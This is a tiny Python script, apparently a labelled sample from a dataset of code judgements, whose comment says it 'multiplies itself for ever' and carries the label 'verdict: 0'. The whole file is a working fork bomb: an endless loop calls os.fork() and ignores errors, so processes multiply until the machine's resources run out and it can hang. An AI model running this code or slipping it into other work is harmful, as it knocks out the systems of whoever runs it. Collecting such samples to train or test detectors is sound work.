# multiplies itself for ever
# verdict: 0
# ruff: noqa
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
